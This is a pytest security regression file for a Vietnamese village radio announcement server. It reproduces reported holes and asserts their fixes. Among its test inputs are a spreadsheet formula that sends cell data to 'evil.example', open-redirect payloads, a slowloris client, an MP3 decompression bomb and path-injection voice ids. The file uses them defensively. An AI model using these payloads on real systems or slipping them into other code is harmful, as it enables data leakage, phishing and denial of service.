"""Smaller holes an attacker found (issue 17), each reproduced as it was reported: a
spreadsheet formula in the as-run export, an open redirect after login, secrets in logs
under other spellings, the users page for everyone."""

from __future__ import annotations

import csv
import io
import socket
import time
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import httpx
import lameenc
import numpy as np
import pytest

from radio.access.quota import PREVIEWS, WINDOW
from radio.logs import redact
from radio.models import Announcement
from radio.services import Services
from radio.web.app import create_app
from radio.web.connections import HEADER_TIMEOUT_S
from radio.web.server import serving
from schedules import ManualClock
from tests.apiclient import client, error
from voices.audio.decode import AudioFileError, decode_audio


@pytest.fixture
def base(services: tuple[Services, ManualClock]) -> Iterator[str]:
    with serving(create_app(services[0])) as url:
        yield url


def test_a_title_like_a_formula_is_not_a_formula_in_the_as_run_export(base: str) -> None:
    operator = client(base, "vanhanh")
    operator.post("/api/zones", json={"slug": "na-heo", "name": "Thôn Nà Héo"})
    title = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    draft = {"title": title, "text": "Lũ quét. Sơ tán ngay.", "voice": "espeak-north-female"}
    ann = operator.post("/api/announcements", json=draft).json()["id"]
    sent = operator.post("/api/emergency", json={"announcement_id": ann, "zones": ["na-heo"]})
    assert sent.status_code == 201
    answer = operator.get("/api/asrun.csv", params={"start": "2026-12-01", "end": "2026-12-01"})
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["title"] for r in rows] == ["'" + title]  # shown as typed, never run


@pytest.mark.parametrize(
    "elsewhere",
    ["//evil.example/phish", "/\\evil.example/phish", "/\\/evil.example", "https://evil.example"],
)
def test_login_never_sends_the_user_to_another_site(base: str, elsewhere: str) -> None:
    page = client(base, "canbo").get("/login", params={"next": elsewhere})
    assert page.status_code == 200
    assert 'data-then="/"' in page.text
    assert "evil.example" not in page.text


def test_login_returns_to_a_page_of_this_site(base: str) -> None:
    page = client(base, "canbo").get("/login", params={"next": "/review?lang=en"})
    assert 'data-then="/review?lang=en"' in page.text


def test_the_users_page_is_the_operators(base: str) -> None:
    assert client(base, "vanhanh").get("/admin").status_code == 200
    for name in ("canbo", "chutich"):
        assert client(base, name).get("/admin").status_code == 403


@pytest.mark.parametrize(
    ("logged", "shown"),
    [
        ("GET /stream/a.mp3?token=s3cret HTTP/1.1", "GET /stream/a.mp3?token=*** HTTP/1.1"),
        ("GET /stream/a.mp3?tok%65n=s3cret", "GET /stream/a.mp3?tok%65n=***"),
        ("GET /x?hours=2&%74oken=s3cret&y=1", "GET /x?hours=2&%74oken=***&y=1"),
        ("GET /x?TOKEN=s3cret", "GET /x?TOKEN=***"),
        ("GET /x?pass%77ord=s3cret", "GET /x?pass%77ord=***"),
        ("GET /x?tokens=kept", "GET /x?tokens=kept"),
    ],
)
def test_secrets_are_redacted_however_they_are_spelled(logged: str, shown: str) -> None:
    assert redact(logged) == shown


def test_a_text_read_far_longer_than_written_is_refused_before_synthesis(
    base: str, services: tuple[Services, ManualClock]
) -> None:
    """`999.999.999.999.999` is read 7.3 times longer than it is written: 8,000 such
    characters gave 41 minutes of audio and 3.2 GB of memory. Now a 422 saying how long,
    at once, on saving and on previewing what was saved before the limit."""
    officer = client(base, "canbo")
    numbers = "999.999.999.999.999 " * 400
    started = time.monotonic()
    refused = officer.post(
        "/api/announcements",
        json={"title": "Số", "text": numbers, "voice": "espeak-north-female"},
    )
    body = error(refused, 422)
    assert "minutes" in body["en"] and "phút" in body["vi"] and body["field"] == "text"
    assert time.monotonic() - started < 5  # nothing was synthesized
    short = officer.post(
        "/api/announcements",
        json={"title": "Số", "text": "Xin chào.", "voice": "espeak-north-female"},
    ).json()["id"]
    with services[0].sessions.begin() as db:  # as saved by a release without the limit
        db.get(Announcement, short).current.text = numbers  # type: ignore[union-attr]
    started = time.monotonic()
    error(officer.post(f"/api/announcements/{short}/preview"), 422)
    assert time.monotonic() - started < 5


def _raw(base: str, head: str, body: bytes = b"") -> tuple[int, str]:
    """Send headers (and the start of a body) on a raw socket and read the answer, the
    rest of the body never sent: what a server that waits for it would hang on."""
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=10) as sock:
        sock.sendall(head.replace("\n", "\r\n").encode() + b"\r\n" + body)
        answer = b""
        while not _whole(answer):
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    status = int(answer.split(b" ", 2)[1])
    return status, answer.decode("utf-8", "replace")


def _whole(answer: bytes) -> bool:
    head, found, body = answer.partition(b"\r\n\r\n")
    if not found:
        return False
    length = [
        int(line.split(b":")[1])
        for line in head.lower().split(b"\r\n")
        if line.startswith(b"content-length:")
    ]
    return bool(length) and len(body) >= length[0]


def test_a_huge_body_is_refused_at_its_headers(base: str) -> None:
    """200 MB of JSON with no credentials took 3 s and 570 MB of memory to refuse."""
    head = (
        "POST /api/announcements HTTP/1.1\nHost: x\nContent-Type: application/json\n"
        "Content-Length: 200000000\n"
    )
    status, answer = _raw(base, head, b'{"title": "')
    assert status == 413 and "lớn hơn" in answer and "larger than 1 MB" in answer


def test_a_recording_is_read_only_from_someone_signed_in(base: str) -> None:
    """200 MB of multipart with no credentials was spooled to disk before the 401."""
    head = (
        "POST /api/bulletins/audio HTTP/1.1\nHost: x\n"
        "Content-Type: multipart/form-data; boundary=b\nContent-Length: 40000000\n"
    )
    status, answer = _raw(base, head, b"--b\r\n")
    assert status == 401 and "vui lòng đăng nhập" in answer
    status, _ = _raw(base, head.replace("Host: x\n", "Host: x\nAuthorization: Bearer forged\n"))
    assert status == 401
    over = head.replace("40000000", "60000000")
    token = client(base, "vanhanh").post("/api/tokens").json()["token"]
    status, answer = _raw(
        base, over.replace("Host: x\n", f"Host: x\nAuthorization: Bearer {token}\n")
    )
    assert status == 413 and "larger than 52 MB" in answer


def test_a_body_without_a_length_is_counted_and_cut_at_the_limit(base: str) -> None:
    operator = client(base, "vanhanh")

    def chunks() -> Iterator[bytes]:
        yield b'{"title": "x", "voice": "espeak-north-female", "text": "'
        for _ in range(40):
            yield b"x" * 65536

    refused = operator.post(
        "/api/announcements", content=chunks(), headers={"content-type": "application/json"}
    )
    assert error(refused, 413)


def _long_quiet_mp3(minutes: int) -> bytes:
    """A small file holding a long recording: 8 kbps at 8 kHz, a tone."""
    encoder = lameenc.Encoder()
    encoder.set_bit_rate(8)
    encoder.set_in_sample_rate(8000)
    encoder.set_channels(1)
    encoder.set_quality(7)
    seconds = np.arange(8000 * 60 * minutes) / 8000.0
    pcm = (np.sin(2 * np.pi * 440 * seconds) * 3000).astype(np.int16).tobytes()
    return bytes(encoder.encode(pcm) + encoder.flush())


def test_a_decompression_bomb_is_refused_without_holding_its_samples(base: str) -> None:
    """A 1.86 MB MP3 of 31 minutes raised memory by 315 MB before it was refused."""
    bomb = _long_quiet_mp3(31)
    assert len(bomb) < 2_000_000
    tracemalloc.start()
    try:
        with pytest.raises(AudioFileError, match="longer than 30 minutes"):
            decode_audio(bomb)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20_000_000  # 31 minutes at 44.1 kHz would be 164 MB of samples
    operator = client(base, "vanhanh")
    refused = operator.post(
        "/api/bulletins/audio",
        files={"file": ("bom.mp3", bomb, "audio/mpeg")},
        data={"title": "Bom", "level": "normal", "communes": ["xa"]},
    )
    assert "30" in error(refused, 422)["en"]


@pytest.mark.parametrize("voice", ["espeak-north-female:foo", "vi_VN-nope-medium", ".hidden"])
def test_a_voice_id_that_names_no_voice_is_a_404_not_a_500(base: str, voice: str) -> None:
    answer = client(base, "canbo").get(f"/api/voices/{voice}/sample.mp3")
    assert voice.split(":")[-1] in error(answer, 404)["en"]


def test_a_voice_id_is_never_taken_as_a_path(base: str, tmp_path: Path) -> None:
    """A manifest planted anywhere on the disk is not a voice: only ids the catalog lists."""
    planted = tmp_path / "planted"
    planted.mkdir()
    (planted / "manifest.json").write_text('{"info": {"speakers": []}}')
    officer = client(base, "canbo")
    draft = {"title": "Họp", "text": "Họp thôn.", "voice": str(planted)}
    answer = officer.post("/api/announcements", json=draft)
    assert error(answer, 422)["en"].startswith("unknown voice")
    answer = officer.post("/api/reading", json={"text": "Họp.", "voice": str(planted)})
    assert error(answer, 422)["en"].startswith("unknown voice")


def test_a_client_trickling_its_headers_is_dropped_at_the_deadline(base: str) -> None:
    """Slowloris: a byte of headers now and then held a connection for ever (finding of
    issue 17); the headers must be complete within HEADER_TIMEOUT_S."""
    host, port = base.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port))) as sock:
        sock.sendall(b"GET /api/health HTTP/1.1\r\nHost: x\r\n")
        sock.settimeout(0.5)
        started, closed = time.monotonic(), False
        while not closed and time.monotonic() - started < HEADER_TIMEOUT_S + 10:
            try:
                sock.sendall(b"X-Slow: 1\r\n")
                closed = sock.recv(1024) == b""
            except TimeoutError:
                continue
            except OSError:
                closed = True
        took = time.monotonic() - started
    assert closed, "the trickling client was never dropped"
    assert HEADER_TIMEOUT_S - 0.5 <= took <= HEADER_TIMEOUT_S + 3


def test_a_connection_that_asks_in_time_is_served_again_and_again(base: str) -> None:
    """The deadline is per request: a keep-alive connection asking now and then stays."""
    with httpx.Client(base_url=base) as http:
        for _ in range(3):
            assert http.get("/api/health").status_code == 200
            time.sleep(1.0)


def test_past_the_connection_cap_the_server_answers_503_at_once(
    services: tuple[Services, ManualClock],
) -> None:
    services[0].settings = replace(services[0].settings, max_connections=8)
    with serving(create_app(services[0])) as base:
        host, port = base.removeprefix("http://").split(":")
        held = [socket.create_connection((host, int(port))) for _ in range(8)]
        for sock in held:
            sock.sendall(b"GET /api/health HTTP/1.1\r\n")  # and nothing more
        time.sleep(0.5)
        started = time.monotonic()
        assert httpx.get(f"{base}/api/health", timeout=5).status_code == 503
        assert time.monotonic() - started < 1.0
        for sock in held:
            sock.close()
        time.sleep(0.5)
        assert httpx.get(f"{base}/api/health", timeout=5).status_code == 200


def test_a_preview_keeps_only_the_mp3_that_airs(
    base: str, services: tuple[Services, ManualClock]
) -> None:
    """Each preview wrote an MP3 and a WAV master six times its size, which nothing in the
    server reads (finding of issue 17): the server's program store keeps the MP3 only."""
    officer = client(base, "canbo")
    draft = {"title": "Họp", "text": "Thôn Nà Héo họp lúc 7 giờ.", "voice": "espeak-north-female"}
    ann = officer.post("/api/announcements", json=draft).json()["id"]
    preview = officer.post(f"/api/announcements/{ann}/preview")
    assert preview.status_code == 200, preview.text
    store = services[0].settings.cache_dir / "programs"
    assert [p.name for p in store.glob("*.mp3")] == [f"{preview.json()['hash']}.mp3"]
    assert list(store.glob("*.wav")) == []
    again = officer.post(f"/api/announcements/{ann}/preview")  # found whole, not made again
    assert again.json()["hash"] == preview.json()["hash"]


def test_new_previews_are_limited_per_user_and_listening_again_is_free(
    base: str, services: tuple[Services, ManualClock]
) -> None:
    """Any signed-in user could make the server synthesize without end (finding of issue
    17): PREVIEWS new renders per user in WINDOW, then 429 saying how long to wait."""
    officer, operator = client(base, "canbo"), client(base, "vanhanh")
    draft = {"title": "Họp", "text": "Họp lần 0.", "voice": "espeak-north-female"}
    ann = officer.post("/api/announcements", json=draft).json()["id"]
    for n in range(PREVIEWS):
        if n:
            officer.put(f"/api/announcements/{ann}", json={**draft, "text": f"Họp lần {n}."})
        assert officer.post(f"/api/announcements/{ann}/preview").status_code == 200
    assert officer.post(f"/api/announcements/{ann}/preview").status_code == 200  # heard again
    officer.put(f"/api/announcements/{ann}", json={**draft, "text": "Họp lần cuối."})
    refused = error(officer.post(f"/api/announcements/{ann}/preview"), 429)
    assert "10 minutes" in refused["en"] and "10 phút" in refused["vi"]
    assert operator.post(f"/api/announcements/{ann}/preview").status_code == 200  # theirs
    services[1].advance(WINDOW)
    assert officer.post(f"/api/announcements/{ann}/preview").status_code == 200
